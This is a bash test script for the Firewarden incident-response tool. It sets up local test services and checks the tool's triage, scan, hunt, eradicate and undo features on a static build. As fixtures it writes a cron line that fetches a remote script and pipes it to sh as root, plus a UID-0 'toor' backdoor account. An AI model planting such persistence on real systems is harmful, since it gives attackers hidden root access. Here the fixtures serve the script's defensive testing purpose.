#!/usr/bin/env bash
# Runs every Firewarden test on a fresh Debian machine: installs what the tests need (as root,
# through apt), then formatting, lints, the whole test suite, and the static (portable) build.
#
#   scripts/test.sh            # everything
#   SKIP_STATIC=1 scripts/test.sh   # skip the static release build (quicker local runs)
set -euo pipefail
cd "$(dirname "$0")/.."

# Debian packages the tests use: coreutils (mkfifo, sleep) for the hostile-input and live-process
# tests, file for the static-build check, systemd-journal-remote and rpm to write real journal
# files and RPM databases for the parsers' tests; zstd, tar, openssl and age so that the evidence
# tests check bundles with the standard tools another examiner would use; nftables and
# iproute2 for the network-containment test (in namespaces it creates), util-linux for
# unshare/setpriv/script (live account lock in a mount namespace, prompts on a terminal); time
# (GNU time) for bench/hostile.sh's peak-memory figures; postgresql for the case platform's
# storage tests (on a cluster of their own, below); python3-venv to install the S3-compatible
# test server (moto, from PyPI) into a virtual environment of the tests' own; ca-certificates
# for the server's object-store client; chromium (and chromium-driver, for the browser tests)
# to print the summary report as PDF, and poppler-utils (pdftotext) to read the PDF back.
APT_PACKAGES=(coreutils file systemd-journal-remote rpm zstd tar openssl age nftables iproute2 util-linux time postgresql python3 python3-venv ca-certificates chromium chromium-driver poppler-utils)

install_packages() {
  local missing=()
  for p in "${APT_PACKAGES[@]}"; do
    dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q "install ok installed" || missing+=("$p")
  done
  [ ${#missing[@]} -eq 0 ] && return 0
  # As root directly; as a user through sudo (which may ask for the password).
  local as_root=()
  if [ "$(id -u)" -ne 0 ]; then
    if command -v sudo >/dev/null; then as_root=(sudo); else
      echo "test.sh: missing packages ${missing[*]} and cannot install them (not root, no sudo)" >&2
      return 0
    fi
  fi
  if ! command -v apt-get >/dev/null; then
    echo "test.sh: missing packages ${missing[*]} and no apt-get to install them" >&2
    return 0
  fi
  echo "test.sh: installing ${missing[*]}"
  "${as_root[@]}" env DEBIAN_FRONTEND=noninteractive apt-get update -qq
  "${as_root[@]}" env DEBIAN_FRONTEND=noninteractive apt-get install -y -qq "${missing[@]}" >/dev/null
}

install_packages

# What this script starts or makes, stopped and removed on exit whatever happens.
CLEANUP_PATHS=()
PG_STOP=()
KILL_PIDS=()
cleanup() {
  if [ ${#PG_STOP[@]} -gt 0 ]; then "${PG_STOP[@]}" >/dev/null 2>&1 || true; fi
  for pid in "${KILL_PIDS[@]}"; do kill "$pid" 2>/dev/null || true; wait "$pid" 2>/dev/null || true; done
  if [ ${#CLEANUP_PATHS[@]} -gt 0 ]; then rm -rf "${CLEANUP_PATHS[@]}"; fi
}
trap cleanup EXIT

# A PostgreSQL cluster of the tests' own: initdb in a temp dir, loopback only, a free port;
# its URL goes to the storage tests in FIREWARDEN_TEST_PG_URL. PostgreSQL refuses to run as
# root, so as root it runs as the postgres user.
start_postgres() {
  local pgbin
  pgbin=$(ls -d /usr/lib/postgresql/*/bin 2>/dev/null | sort -V | tail -1)
  if [ -z "$pgbin" ]; then
    echo "test.sh: PostgreSQL is not installed: the storage tests' PostgreSQL half will say so" >&2
    return 0
  fi
  local dir as=()
  dir=$(mktemp -d)
  CLEANUP_PATHS+=("$dir")
  if [ "$(id -u)" -eq 0 ]; then
    chown postgres "$dir"
    as=(runuser -u postgres --)
  fi
  "${as[@]}" "$pgbin/initdb" -D "$dir/data" -A trust -U postgres >/dev/null
  local port
  for _ in 1 2 3 4 5; do
    port=$((20000 + RANDOM % 30000))
    if "${as[@]}" "$pgbin/pg_ctl" -D "$dir/data" -l "$dir/log" -w \
      -o "-p $port -c listen_addresses=127.0.0.1 -k $dir" start >/dev/null 2>&1; then
      PG_STOP=("${as[@]}" "$pgbin/pg_ctl" -D "$dir/data" -m immediate -w stop)
      export FIREWARDEN_TEST_PG_URL="postgres://postgres@127.0.0.1:$port/postgres"
      echo "test.sh: PostgreSQL on 127.0.0.1:$port"
      return 0
    fi
  done
  echo "test.sh: PostgreSQL did not start: $(tail -3 "$dir/log" 2>/dev/null)" >&2
  return 1
}
start_postgres

# An S3-compatible server on loopback for the evidence-store tests: moto, installed from PyPI
# into a virtual environment kept in the user's cache (reused by later runs). The bucket and
# endpoint go to the tests in FIREWARDEN_TEST_S3_BUCKET and the usual AWS_* variables.
start_s3() {
  local venv="${XDG_CACHE_HOME:-$HOME/.cache}/firewarden-test/venv"
  if [ ! -x "$venv/bin/moto_server" ]; then
    echo "test.sh: installing moto[server] into $venv"
    python3 -m venv "$venv" && "$venv/bin/pip" install -q --disable-pip-version-check 'moto[server]==5.*' \
      || { echo "test.sh: moto could not be installed: the S3 tests will say so" >&2; return 0; }
  fi
  local port log
  log=$(mktemp)
  CLEANUP_PATHS+=("$log")
  for _ in 1 2 3 4 5; do
    port=$((20000 + RANDOM % 30000))
    "$venv/bin/moto_server" -H 127.0.0.1 -p "$port" >"$log" 2>&1 &
    local pid=$!
    for _ in $(seq 50); do
      if "$venv/bin/python" - "$port" <<'PY' 2>/dev/null; then
import sys, boto3
s3 = boto3.client("s3", endpoint_url=f"http://127.0.0.1:{sys.argv[1]}", region_name="us-east-1",
                  aws_access_key_id="test", aws_secret_access_key="test")
s3.create_bucket(Bucket="firewarden-test")
PY
        KILL_PIDS+=("$pid")
        export AWS_ENDPOINT_URL="http://127.0.0.1:$port" AWS_ACCESS_KEY_ID=test \
          AWS_SECRET_ACCESS_KEY=test AWS_REGION=us-east-1 FIREWARDEN_TEST_S3_BUCKET=firewarden-test
        echo "test.sh: S3-compatible server (moto) on 127.0.0.1:$port"
        return 0
      fi
      kill -0 "$pid" 2>/dev/null || break
      sleep 0.2
    done
    kill "$pid" 2>/dev/null || true
  done
  echo "test.sh: the S3-compatible server did not start: $(tail -3 "$log")" >&2
  return 1
}
start_s3

# The STIX 2.1 validator (PyPI stix2) for the IOC export test and a JSON Schema validator
# (PyPI jsonschema) for the VERIS export test, in the same environment; the tests find its
# Python in FIREWARDEN_TEST_PYTHON.
python_tools() {
  local venv="${XDG_CACHE_HOME:-$HOME/.cache}/firewarden-test/venv"
  [ -x "$venv/bin/python" ] || python3 -m venv "$venv" || return 0
  "$venv/bin/python" -c "import stix2, jsonschema" 2>/dev/null \
    || "$venv/bin/pip" install -q --disable-pip-version-check 'stix2==3.*' 'jsonschema==4.*' \
    || { echo "test.sh: stix2 or jsonschema could not be installed: the STIX and VERIS tests will say so" >&2; return 0; }
  export FIREWARDEN_TEST_PYTHON="$venv/bin/python"
}
python_tools

if ! command -v cargo >/dev/null && [ -x "$HOME/.cargo/bin/cargo" ]; then
  export PATH="$HOME/.cargo/bin:$PATH"
fi
if ! command -v cargo >/dev/null; then
  # A fresh machine: Debian's own cargo is too old for edition 2024, so use rustup.
  echo "test.sh: installing Rust with rustup"
  if ! command -v curl >/dev/null || ! command -v cc >/dev/null; then
    s=(); [ "$(id -u)" -eq 0 ] || s=(sudo)
    "${s[@]}" env DEBIAN_FRONTEND=noninteractive apt-get install -y -qq curl build-essential >/dev/null
  fi
  curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --profile minimal --component clippy,rustfmt
  export PATH="$HOME/.cargo/bin:$PATH"
fi

if [ ! -d ../shared/data ]; then
  echo "test.sh: ../shared/data is absent: tests that use the shared corpora will skip"
fi

echo "== cargo fmt --check"
cargo fmt --all --check
echo "== cargo clippy"
cargo clippy --workspace --all-targets --locked -- -D warnings
echo "== cargo test"
# A CI run builds once: incremental state would only fill the disk (tens of GB over runs).
if [ "${CI:-}" = "true" ]; then export CARGO_INCREMENTAL=0; fi
cargo test --workspace --locked

if [ -z "${SKIP_STATIC:-}" ]; then
  echo "== static build (portable binary that never loads the host's shared libraries)"
  target=x86_64-unknown-linux-gnu
  [ "$(uname -m)" = aarch64 ] && target=aarch64-unknown-linux-gnu
  RUSTFLAGS="-C target-feature=+crt-static" cargo build --release --locked --target "$target" -p firewarden
  bin="${CARGO_TARGET_DIR:-target}/$target/release/firewarden"
  if file "$bin" | grep -q "dynamically linked"; then
    echo "static build check FAILED: $(file "$bin")" >&2
    exit 1
  fi
  "$bin" checks >/dev/null
  fixture=$(mktemp -d)
  report=$(mktemp)
  CLEANUP_PATHS+=("$fixture" "$report")
  mkdir -p "$fixture/etc"
  printf 'root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n' > "$fixture/etc/passwd"
  set +e
  "$bin" triage --root "$fixture" --format json -o "$report"
  code=$?
  set -e
  if [ "$code" -ne 1 ] || ! grep -q linux.accounts.uid0 "$report"; then
    echo "static build check FAILED: triage exit $code" >&2
    exit 1
  fi
  bundle_dir=$(mktemp -d)
  CLEANUP_PATHS+=("$bundle_dir")
  "$bin" keygen -o "$bundle_dir/k" >/dev/null 2>&1
  "$bin" collect --root "$fixture" --key "$bundle_dir/k.key" --operator ci -o "$bundle_dir/b.fwb" >/dev/null 2>&1
  if ! "$bin" verify "$bundle_dir/b.fwb" --key "$bundle_dir/k.pub" | grep -q '^OK '; then
    echo "static build check FAILED: collect/verify" >&2
    exit 1
  fi
  set +e
  "$bin" scan crates/firewarden-scan/tests/samples --min-severity high --format json -o "$bundle_dir/scan.json"
  code=$?
  set -e
  if [ "$code" -ne 1 ] || ! grep -q php_eval_request_oneliner "$bundle_dir/scan.json"; then
    echo "static build check FAILED: scan exit $code" >&2
    exit 1
  fi
  cat > "$bundle_dir/events.jsonl" <<'JSONL'
{"Event":{"System":{"EventID":1102,"TimeCreated":{"#attributes":{"SystemTime":"2026-11-20T03:30:00Z"}},"EventRecordID":8,"Channel":"Security","Computer":"WEB01"},"UserData":{"LogFileCleared":{"SubjectUserName":"admin"}}}}
JSONL
  set +e
  "$bin" hunt "$bundle_dir/events.jsonl" --format json -o "$bundle_dir/hunt.json"
  code=$?
  set -e
  if [ "$code" -ne 1 ] || ! grep -q windows.logs.cleared "$bundle_dir/hunt.json"; then
    echo "static build check FAILED: hunt exit $code" >&2
    exit 1
  fi
  # Response actions on a throwaway root: eradicate what triage found, then undo it all.
  respond_root=$(mktemp -d)
  CLEANUP_PATHS+=("$respond_root")
  mkdir -p "$respond_root/etc/cron.d"
  printf 'root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n' > "$respond_root/etc/passwd"
  printf '*/5 * * * * root curl -fsSL http://203.0.113.9/x | sh\n' > "$respond_root/etc/cron.d/sync"
  sum_before=$(cd "$respond_root" && find . -type f -exec sha256sum {} + | sort)
  "$bin" triage --root "$respond_root" --format json -o "$bundle_dir/r.json" || true
  ids=$(grep -o '"id": *"linux\.\(accounts\.uid0\|persistence\.cron\):[0-9a-f]*"' "$bundle_dir/r.json" | sed 's/.*"\(linux[^"]*\)"/\1/')
  # shellcheck disable=SC2086
  if ! "$bin" eradicate --from "$bundle_dir/r.json" $ids --root "$respond_root" --state-dir "$bundle_dir/state" --yes >/dev/null \
    || grep -q toor "$respond_root/etc/passwd" \
    || ! "$bin" undo --all --root "$respond_root" --state-dir "$bundle_dir/state" >/dev/null \
    || [ "$sum_before" != "$(cd "$respond_root" && find . -type f -exec sha256sum {} + | sort)" ]; then
    echo "static build check FAILED: eradicate/undo" >&2
    exit 1
  fi
  # The case platform from the static binary: one command starts it, a client pins it.
  server_dir=$(mktemp -d)
  CLEANUP_PATHS+=("$server_dir")
  "$bin" server --data "$server_dir/data" --listen 127.0.0.1:0 2>"$server_dir/log" &
  server_pid=$!
  KILL_PIDS+=("$server_pid")
  for _ in $(seq 100); do grep -q "^certificate pin:" "$server_dir/log" && break; sleep 0.1; done
  url=$(sed -n 's/^firewarden server listening on //p' "$server_dir/log")
  pin=$(sed -n 's/^certificate pin: //p' "$server_dir/log")
  if ! FIREWARDEN_SERVER="$url" FIREWARDEN_PIN="$pin" FIREWARDEN_TOKEN="$(cat "$server_dir/data/bootstrap-token")" \
    "$bin" tenant add "Static Build" >/dev/null; then
    echo "static build check FAILED: server ($(cat "$server_dir/log"))" >&2
    exit 1
  fi
  kill "$server_pid"
  echo "static build: ok ($(file -b "$bin" | cut -d, -f1-2))"
fi
echo "all checks passed"
